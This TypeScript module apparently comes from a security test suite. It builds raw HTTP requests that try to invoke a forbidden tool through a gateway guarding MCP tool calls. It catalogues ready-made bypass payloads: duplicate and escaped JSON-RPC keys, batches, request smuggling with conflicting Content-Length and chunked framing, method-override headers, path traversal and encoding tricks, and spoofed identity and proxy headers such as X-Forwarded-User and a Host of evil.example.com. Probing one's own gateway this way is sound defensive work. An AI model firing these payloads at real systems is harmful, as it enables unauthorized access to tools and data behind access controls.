import { deflateSync, gzipSync, brotliCompressSync } from 'zlib';

/*
 * Requests that try to call a tool that their caller may not call. Each is bytes on a connection, so that nothing corrects them
 * on the way.
 */

/** What an attacker has: an address, a caller's headers, and perhaps a session. */
export interface Target {
  /** Host and port. */
  readonly host: string;
  /** Path of the route. */
  readonly path: string;
  /** A tool that the caller may call. */
  readonly permitted: string;
  /** A tool that the caller may not call. */
  readonly forbidden: string;
  /** Lines of headers that are in every request. */
  readonly headers: readonly string[];
}

/** The pieces in which a request is written. */
export type Attack = (target: Target) => readonly (string | Buffer)[];

/** Parts of a request in place of the ordinary ones. */
interface Parts {
  readonly verb?: string;
  readonly path?: string;
  readonly version?: string;
  readonly body?: string | Buffer;
  readonly contentType?: string;
  /** Lines; without the length, which is added unless it is among them. */
  readonly more?: readonly string[];
  readonly framing?: readonly string[];
}

/** The body of a call. */
export function callOf(tool: string, more: Readonly<Record<string, unknown>> = {}): string {
  return JSON.stringify({
    jsonrpc: '2.0',
    id: 1,
    method: 'tools/call',
    params: { name: tool, arguments: {}, ...more },
  });
}

const PING = JSON.stringify({ jsonrpc: '2.0', id: 2, method: 'ping' });

function bytesOf(
  target: Target,
  {
    verb = 'POST',
    path = target.path,
    version = 'HTTP/1.1',
    body = callOf(target.forbidden),
    contentType = 'application/json',
    more = [],
    framing,
  }: Parts = {},
): Buffer {
  const content = Buffer.from(body as string);
  const lines = [
    `${verb} ${path} ${version}`,
    `Host: ${target.host}`,
    ...(contentType === '' ? [] : [`Content-Type: ${contentType}`]),
    'Accept: application/json, text/event-stream',
    ...target.headers,
    ...more,
    ...(framing ?? [`Content-Length: ${content.length}`]),
    '',
    '',
  ];
  return Buffer.concat([Buffer.from(lines.join('\r\n'), 'latin1'), content]);
}

const request =
  (parts: (target: Target) => Parts): Attack =>
  target => [bytesOf(target, parts(target))];
const body = (text: (target: Target) => string | Buffer, contentType?: string): Attack =>
  request(target => ({ body: text(target), contentType }));
const header = (...more: string[]): Attack => request(() => ({ more }));
const path = (of: (path: string) => string): Attack => request(target => ({ path: of(target.path) }));

/** A message with its fields as they are written. */
const message = (fields: (forbidden: string) => string): Attack => body(({ forbidden }) => `{${fields(forbidden)}}`);
const params = (name: string): string => `"params":{"name":"${name}","arguments":{}}`;

function chunked(content: Buffer, size: number, extension = ''): Buffer {
  const pieces: Buffer[] = [];
  for (let at = 0; at < content.length; at += size) {
    const piece = content.subarray(at, at + size);
    pieces.push(Buffer.from(`${piece.length.toString(16)}${extension}\r\n`), piece, Buffer.from('\r\n'));
  }
  return Buffer.concat([...pieces, Buffer.from('0\r\n\r\n')]);
}

const CHUNKED = ['Transfer-Encoding: chunked'];

/** A request whose body is framed by other headers than its length. */
const framed =
  (framing: readonly string[], content: (call: Buffer) => Buffer): Attack =>
  target => [bytesOf(target, { framing, body: '' }), content(Buffer.from(callOf(target.forbidden)))];

/** What is said in a body. */
const BODIES: Readonly<Record<string, Attack>> = {
  'a call': body(({ forbidden }) => callOf(forbidden)),
  'a batch of one call': body(({ forbidden }) => `[${callOf(forbidden)}]`),
  'a batch that begins harmlessly': body(({ forbidden }) => `[${PING},${callOf(forbidden)}]`),
  'a batch that begins with a permitted call': body(
    ({ forbidden, permitted }) => `[${callOf(permitted)},${callOf(forbidden)}]`,
  ),
  'a batch within a batch': body(({ forbidden }) => `[[${callOf(forbidden)}]]`),
  'a batch behind white space': body(({ forbidden }) => `\n\t [${callOf(forbidden)}]`),
  'a notification': message(name => `"jsonrpc":"2.0","method":"tools/call",${params(name)}`),
  'an id of null': message(name => `"jsonrpc":"2.0","id":null,"method":"tools/call",${params(name)}`),
  'an id that is an object': message(name => `"jsonrpc":"2.0","id":{"a":1},"method":"tools/call",${params(name)}`),
  'an id in words': message(name => `"jsonrpc":"2.0","id":"x","method":"tools/call",${params(name)}`),
  'without a version': message(name => `"id":1,"method":"tools/call",${params(name)}`),
  'another version': message(name => `"jsonrpc":"1.0","id":1,"method":"tools/call",${params(name)}`),
  'two methods, the call last': message(
    name => `"jsonrpc":"2.0","id":1,"method":"ping","method":"tools/call",${params(name)}`,
  ),
  'two methods, the call first': message(
    name => `"jsonrpc":"2.0","id":1,"method":"tools/call","method":"ping",${params(name)}`,
  ),
  'two methods, one escaped': message(
    name => `"jsonrpc":"2.0","id":1,"method":"ping","metho\\u0064":"tools/call",${params(name)}`,
  ),
  'two params': body(
    ({ forbidden, permitted }) =>
      `{"jsonrpc":"2.0","id":1,"method":"tools/call",${params(permitted)},${params(forbidden)}}`,
  ),
  'two params, the other order': body(
    ({ forbidden, permitted }) =>
      `{"jsonrpc":"2.0","id":1,"method":"tools/call",${params(forbidden)},${params(permitted)}}`,
  ),
  'two names': body(
    ({ forbidden, permitted }) =>
      `{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"${permitted}","name":"${forbidden}","arguments":{}}}`,
  ),
  'two names, the other order': body(
    ({ forbidden, permitted }) =>
      `{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"${forbidden}","name":"${permitted}","arguments":{}}}`,
  ),
  'two names, one escaped': body(
    ({ forbidden, permitted }) =>
      `{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"${permitted}","nam\\u0065":"${forbidden}","arguments":{}}}`,
  ),
  'two names far apart': body(
    ({ forbidden, permitted }) =>
      `{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"${permitted}","arguments":{"pad":"${'x'.repeat(20_000)}"},"name":"${forbidden}"}}`,
  ),
  'an escaped method': message(name => `"jsonrpc":"2.0","id":1,"method":"tools\\u002fcall",${params(name)}`),
  'an escaped slash': message(name => `"jsonrpc":"2.0","id":1,"method":"tools\\/call",${params(name)}`),
  'an escaped key': message(name => `"jsonrpc":"2.0","id":1,"\\u006dethod":"tools/call",${params(name)}`),
  'an escaped tool': message(
    name => `"jsonrpc":"2.0","id":1,"method":"tools/call",${params(name.replace('_', '\\u005f'))}`,
  ),
  'an escaped key of the tool': message(
    name => `"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"\\u006eame":"${name}","arguments":{}}`,
  ),
  'keys in another order': message(name => `${params(name)},"method":"tools/call","id":1,"jsonrpc":"2.0"`),
  'the method late': message(
    name =>
      `"jsonrpc":"2.0","id":1,"params":{"arguments":{"pad":"${'x'.repeat(100_000)}"},"name":"${name}"},"method":"tools/call"`,
  ),
  'the tool late': message(
    name =>
      `"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"arguments":{"pad":"${'x'.repeat(100_000)}"},"name":"${name}"}`,
  ),
  'another method within': message(
    name => `"jsonrpc":"2.0","id":1,"params":{"method":"ping","name":"${name}","arguments":{}},"method":"tools/call"`,
  ),
  'a permitted tool in the arguments': body(({ forbidden, permitted }) =>
    callOf(forbidden, { arguments: { name: permitted, method: 'ping' } }),
  ),
  'a permitted tool in _meta': body(({ forbidden, permitted }) =>
    callOf(forbidden, { _meta: { name: permitted, progressToken: 1 } }),
  ),
  'fields of a response too': message(
    name => `"jsonrpc":"2.0","id":1,"result":{},"method":"tools/call",${params(name)}`,
  ),
  'params.name beside params': message(
    name => `"jsonrpc":"2.0","id":1,"params.name":"k8s_get","method":"tools/call",${params(name)}`,
  ),
  'keys that cannot be copied': message(
    name => `"__proto__":{"method":"ping"},"jsonrpc":"2.0","id":1,"method":"tools/call",${params(name)}`,
  ),
  depth: message(
    name => `"x":${'['.repeat(2000)}${']'.repeat(2000)},"jsonrpc":"2.0","id":1,"method":"tools/call",${params(name)}`,
  ),
  'a method in capitals': message(name => `"jsonrpc":"2.0","id":1,"method":"TOOLS/CALL",${params(name)}`),
  'a method with a space behind it': message(name => `"jsonrpc":"2.0","id":1,"method":"tools/call ",${params(name)}`),
  'a method with a zero behind it': message(
    name => `"jsonrpc":"2.0","id":1,"method":"tools/call\\u0000",${params(name)}`,
  ),
  'a method that is a list': message(name => `"jsonrpc":"2.0","id":1,"method":["tools/call"],${params(name)}`),
  'a tool that is a list': message(
    name => `"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":["${name}"],"arguments":{}}`,
  ),
  'params that are a list': message(
    name => `"jsonrpc":"2.0","id":1,"method":"tools/call","params":[{"name":"${name}"}]`,
  ),
  'a permitted name with more behind a zero': body(({ permitted }) => callOf(`${permitted}\u0000_table`)),
  'a permitted name in capitals': body(({ permitted }) => callOf(permitted.toUpperCase())),
  'a permitted name with a space': body(({ permitted }) => callOf(` ${permitted}`)),
  'a permitted name and another line': body(({ permitted, forbidden }) => callOf(`${permitted}\n${forbidden}`)),
  'a prompt': message(() => '"jsonrpc":"2.0","id":1,"method":"prompts/get","params":{"name":"summary"}'),
  'a prompt named as a permitted tool': body(
    ({ permitted }) => `{"jsonrpc":"2.0","id":1,"method":"prompts/get","params":{"name":"${permitted}"}}`,
  ),
  'the list of prompts': message(() => '"jsonrpc":"2.0","id":1,"method":"prompts/list"'),
  'a resource': message(() => '"jsonrpc":"2.0","id":1,"method":"resources/read","params":{"uri":"memo://secret"}'),
  'the list of resources': message(() => '"jsonrpc":"2.0","id":1,"method":"resources/list"'),
  'a completion': message(
    () =>
      '"jsonrpc":"2.0","id":1,"method":"completion/complete","params":{"ref":{"type":"ref/prompt","name":"summary"},"argument":{"name":"a","value":"b"}}',
  ),
  'the list of tools': message(() => '"jsonrpc":"2.0","id":1,"method":"tools/list"'),
  'the list of tools with a permitted name': body(
    ({ permitted }) => `{"jsonrpc":"2.0","id":1,"method":"tools/list","params":{"name":"${permitted}"}}`,
  ),
  'two documents': body(({ forbidden }) => `${PING}${callOf(forbidden)}`),
  'two lines': body(({ forbidden }) => `${PING}\n${callOf(forbidden)}\n`),
  'something behind it': body(({ forbidden }) => `${callOf(forbidden)}x`),
  'a zero behind it': body(({ forbidden }) => `${callOf(forbidden)}\u0000`),
  'a comment before it': body(({ forbidden }) => `/* ping */${callOf(forbidden)}`),
  'text before it': body(({ forbidden }) => `)]}',\n${callOf(forbidden)}`),
  'an event of a stream': body(({ forbidden }) => `data: ${callOf(forbidden)}\n\n`, 'text/event-stream'),
  'an event of a stream, said to be JSON': body(({ forbidden }) => `data: ${callOf(forbidden)}\n\n`),
  'single quotes': body(({ forbidden }) => callOf(forbidden).replace(/"/g, "'")),
  '1.2 MB': body(({ forbidden }) => callOf(forbidden, { arguments: { pad: 'x'.repeat(1_200_000) } })),
  '1.2 MB before the tool': message(
    name =>
      `"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"arguments":{"pad":"${'x'.repeat(1_200_000)}"},"name":"${name}"}`,
  ),
  '20 MB': body(({ forbidden }) => callOf(forbidden, { arguments: { pad: 'x'.repeat(20_000_000) } })),
  nothing: body(() => ''),
  null: body(() => 'null'),
};

/** How a body is written. */
const ENCODINGS: Readonly<Record<string, Attack>> = {
  'a charset': body(({ forbidden }) => callOf(forbidden), 'application/json; charset=utf-8'),
  'a charset in quotes': body(({ forbidden }) => callOf(forbidden), 'application/json;charset="UTF-8"'),
  'UTF-16': body(({ forbidden }) => Buffer.from(callOf(forbidden), 'utf16le'), 'application/json; charset=utf-16'),
  'UTF-16 with a mark': body(
    ({ forbidden }) => Buffer.from(`\ufeff${callOf(forbidden)}`, 'utf16le'),
    'application/json',
  ),
  'UTF-7': body(
    ({ forbidden }) => callOf(forbidden).replace('tools/call', 'tools+AC8-call'),
    'application/json; charset=utf-7',
  ),
  'a byte order mark': body(({ forbidden }) => `\ufeff${callOf(forbidden)}`),
  'latin-1 in the name': body(({ permitted }) => Buffer.from(callOf(`${permitted}\u00e9`), 'latin1')),
  'an overlong slash': body(({ forbidden }) =>
    Buffer.from(callOf(forbidden).replace('tools/call', 'tools\u00c0\u00afcall'), 'latin1'),
  ),
  'plain text': body(({ forbidden }) => callOf(forbidden), 'text/plain'),
  'no type': body(({ forbidden }) => callOf(forbidden), ''),
  'an empty type': body(({ forbidden }) => callOf(forbidden), ' '),
  'two types': request(() => ({ more: ['Content-Type: text/plain'] })),
  'two types, the other order': request(() => ({
    contentType: 'text/plain',
    more: ['Content-Type: application/json'],
  })),
  'a list of types': body(({ forbidden }) => callOf(forbidden), 'text/plain, application/json'),
  'a type in capitals': body(({ forbidden }) => callOf(forbidden), 'APPLICATION/JSON'),
  'a type of JSON': body(({ forbidden }) => callOf(forbidden), 'application/json-rpc'),
  'a type with a suffix': body(({ forbidden }) => callOf(forbidden), 'application/vnd.mcp+json'),
  'a form': body(({ forbidden }) => callOf(forbidden), 'application/x-www-form-urlencoded'),
  parts: body(
    ({ forbidden }) => `--b\r\nContent-Type: application/json\r\n\r\n${callOf(forbidden)}\r\n--b--\r\n`,
    'multipart/form-data; boundary=b',
  ),
  gzip: request(({ forbidden }) => ({ body: gzipSync(callOf(forbidden)), more: ['Content-Encoding: gzip'] })),
  deflate: request(({ forbidden }) => ({ body: deflateSync(callOf(forbidden)), more: ['Content-Encoding: deflate'] })),
  brotli: request(({ forbidden }) => ({ body: brotliCompressSync(callOf(forbidden)), more: ['Content-Encoding: br'] })),
  'said to be compressed': header('Content-Encoding: gzip'),
  'not encoded, as it says': header('Content-Encoding: identity'),
  'one byte a chunk': framed(CHUNKED, call => chunked(call, 1)),
  'chunks of ten bytes with extensions': framed(CHUNKED, call => chunked(call, 10, ';x=1')),
  'chunks without an end': framed(CHUNKED, call => chunked(call, 100).subarray(0, -5)),
  'chunks that never end': target => [
    bytesOf(target, { framing: CHUNKED, body: '' }),
    ...Array.from({ length: 50 }, () => `a\r\n${' '.repeat(10)}\r\n`),
  ],
  trailers: framed(CHUNKED, call =>
    Buffer.concat([chunked(call, 100).subarray(0, -2), Buffer.from('Authorization: Bearer x\r\n\r\n')]),
  ),
  'chunked and something else': framed(['Transfer-Encoding: chunked, identity'], call => chunked(call, 100)),
  'chunked in capitals': framed(['Transfer-Encoding: CHUNKED'], call => chunked(call, 100)),
  'chunked with a space before the colon': framed(['Transfer-Encoding : chunked'], call => chunked(call, 100)),
  'almost chunked': framed(['Transfer-Encoding: xchunked'], call => chunked(call, 100)),
  'a length and chunks': framed(['Content-Length: 4', ...CHUNKED], call => chunked(call, 100)),
  'chunks and a length': framed([...CHUNKED, 'Content-Length: 0'], call => chunked(call, 100)),
  'two lengths': target => [
    bytesOf(target, { body: PING, framing: [`Content-Length: ${PING.length}`, 'Content-Length: 500'] }),
    bytesOf(target),
  ],
  'a list of lengths': target => [
    bytesOf(target, { body: PING, framing: [`Content-Length: ${PING.length}, 500`] }),
    bytesOf(target),
  ],
  'a length with a sign': framed(['Content-Length: +80'], call => call),
  'a length too short': framed(['Content-Length: 20'], call => call),
  'a length too long': framed(['Content-Length: 2000'], call => call),
  'no length': framed([], call => call),
  'a body that is waited for': header('Expect: 100-continue'),
  'byte by byte': target => [...bytesOf(target)].map(byte => Buffer.from([byte])),
  'a folded header': target => [bytesOf(target, { more: ['X-A: b\r\n c: d'] })],
  'a bare line feed': target => [bytesOf(target).toString('latin1').replace(/\r\n/g, '\n')],
  'a bare carriage return': header('X-A: b\rX-B: c'),
  'a zero in a header': header('X-A: b\u0000c'),
  'two requests at once': target => [Buffer.concat([bytesOf(target, { body: PING }), bytesOf(target)])],
  'a request in the body of another': target => [
    bytesOf(target, { verb: 'GET', framing: [`Content-Length: ${bytesOf(target).length}`], body: bytesOf(target) }),
  ],
};

/** Other requests that carry a call. */
const VERBS: Readonly<Record<string, Attack>> = Object.fromEntries([
  ...['GET', 'HEAD', 'PUT', 'PATCH', 'DELETE', 'OPTIONS', 'TRACE', 'CONNECT', 'post', 'Post', 'FOO', 'POST\t'].map(
    (verb): [string, Attack] => [verb.trim(), request(() => ({ verb }))],
  ),
  ...['X-HTTP-Method-Override', 'X-HTTP-Method', 'X-Method-Override'].flatMap((name): [string, Attack][] => [
    [`${name}: GET`, header(`${name}: GET`)],
    [`GET with ${name}: POST`, request(() => ({ verb: 'GET', more: [`${name}: POST`] }))],
    [`DELETE with ${name}: POST`, request(() => ({ verb: 'DELETE', more: [`${name}: POST`] }))],
  ]),
  ['HTTP/1.0', request(() => ({ version: 'HTTP/1.0' }))],
  ['HTTP/1.2', request(() => ({ version: 'HTTP/1.2' }))],
  ['HTTP/0.9', (target: Target) => [`POST ${target.path}\r\n\r\n${callOf(target.forbidden)}`]],
  [
    'an upgrade to HTTP/2',
    header('Connection: Upgrade, HTTP2-Settings', 'Upgrade: h2c', 'HTTP2-Settings: AAMAAABkAAQAAP__'),
  ],
  [
    'an upgrade to WebSocket',
    header(
      'Connection: Upgrade',
      'Upgrade: websocket',
      'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==',
      'Sec-WebSocket-Version: 13',
    ),
  ],
  [
    'the proxy protocol',
    (target: Target) => [`PROXY TCP4 10.0.0.1 127.0.0.1 1234 80\r\n${bytesOf(target).toString('latin1')}`],
  ],
]);

/** Other ways to write the path. */
const PATHS: Readonly<Record<string, Attack>> = Object.fromEntries(
  (
    [
      ['//', route => `/${route}`],
      ['// within', route => route.replace(/\/(?=[^/]+$)/, '//')],
      ['/ behind it', route => `${route}/`],
      ['; behind it', route => `${route};x=y`],
      ['; within', route => route.replace('/routes', '/routes;x')],
      ['/. behind it', route => `${route}/.`],
      ['/./ before it', route => `/.${route}`],
      ['..', route => `/routes/finance/open/..${route.slice(route.lastIndexOf('/'))}`],
      ['%2e%2e', route => `/routes/finance/open/%2e%2e${route.slice(route.lastIndexOf('/'))}`],
      ['.. behind another path', route => `/x/..${route}`],
      ['.. out of it', route => `${route}/../open`],
      ['..%2f', route => `/routes/finance/open/..%2f${route.slice(route.lastIndexOf('/') + 1)}`],
      ['%2f', route => route.replace(/\/(?=[^/]+$)/, '%2f')],
      ['%2F behind it', route => `${route}%2F`],
      ['%5c', route => route.replace(/\/(?=[^/]+$)/, '%5c')],
      ['\\', route => route.replace(/\//g, '\\')],
      ['an escaped letter', route => route.slice(0, -1) + `%${route.charCodeAt(route.length - 1).toString(16)}`],
      ['an escaped letter of routes', route => route.replace('/routes', '/%72outes')],
      ['twice escaped', route => route.replace('/routes', '/%2572outes')],
      ['capitals', route => route.toUpperCase()],
      ['a query', route => `${route}?x=/routes/finance/open`],
      ['an escaped query', route => `${route}%3fx`],
      ['a fragment', route => `${route}#x`],
      ['%00', route => `${route}%00`],
      ['%20', route => `${route}%20`],
      ['an overlong slash', route => route.replace(/\/(?=[^/]+$)/, '%c0%af')],
      ['a token in the query', route => `${route}?access_token=x`],
      ['an absolute form', route => `http://gateway${route}`],
      ['an absolute form of another host', route => `http://evil.example.com:99${route}`],
      ['an absolute form with a user', route => `http://admin:admin@gateway${route}`],
      ['*', () => '*'],
      ['nothing', () => ''],
    ] as [string, (route: string) => string][]
  ).map(([name, of]) => [name, path(of)]),
);

/** Headers that a proxy or a server might believe. */
const HEADERS: Readonly<Record<string, Attack>> = Object.fromEntries(
  [
    ['X-Forwarded-For: 10.0.0.1'],
    ['X-Forwarded-For: 127.0.0.1, 10.0.0.1'],
    ['X-Real-IP: 10.0.0.1'],
    ['Forwarded: for=10.0.0.1'],
    ['True-Client-IP: 10.0.0.1'],
    ['X-Envoy-External-Address: 10.0.0.1'],
    ['X-Envoy-Internal: true'],
    ['X-Envoy-Original-Path: /routes/finance/open'],
    ['X-Original-URL: /routes/finance/open'],
    ['X-Rewrite-URL: /routes/finance/open'],
    ['X-Forwarded-Prefix: /routes/finance/open'],
    [
      'X-Envoy-Upstream-Rq-Timeout-Ms: 1',
      'X-Envoy-Max-Retries: 5',
      'X-Envoy-Retry-On: 5xx,retriable-4xx',
      'X-Envoy-Retriable-Status-Codes: 403',
    ],
    ['X-Envoy-Decorator-Operation: x'],
    ['X-Envoy-Force-Trace: 1'],
    ['X-Forwarded-User: alice'],
    ['X-Auth-Request-User: alice', 'X-Auth-Request-Groups: finance-admins'],
    ['X-User: alice', 'X-Groups: finance-admins'],
    ['X-Remote-User: alice'],
    ['X-Jwt-Payload: eyJzdWIiOiJhbGljZSJ9'],
    ['X-Forwarded-Client-Cert: Subject="CN=alice"'],
    ['X-Mcp-Method: ping', 'X-Mcp-Name: k8s_get'],
    ['Mcp-Method: ping', 'Mcp-Name: k8s_get'],
    ['X_User: alice'],
    ['X-Api-Key: key-of-alice-77aa'],
    ['Cookie: authorization=Bearer x; mcp-session-id=x'],
    ['Host: evil.example.com'],
    ['Connection: Authorization, Mcp-Session-Id, Content-Length'],
    ['Connection: keep-alive, Authorization'],
    ['TE: trailers', 'Trailer: Authorization'],

    ['Mcp-Session-Id: other'],
    ['Mcp-Session-Id: ../../open'],
    [`Mcp-Session-Id: ${Buffer.from('127.0.0.1:15000').toString('base64')}`],
    ['Mcp-Protocol-Version: 1999-01-01'],
    ['Last-Event-ID: 1'],
    ['Origin: https://evil.example.com'],
    ['Authorization: Basic YWxpY2U6eA=='],
    ['Proxy-Authorization: Bearer x'],
  ].map((lines): [string, Attack] => [lines.join(', '), header(...lines)]),
);

/** All attacks, by the kind of trick. */
export const ATTACKS: Readonly<Record<string, Readonly<Record<string, Attack>>>> = {
  body: BODIES,
  encoding: ENCODINGS,
  verb: VERBS,
  path: PATHS,
  header: HEADERS,
};
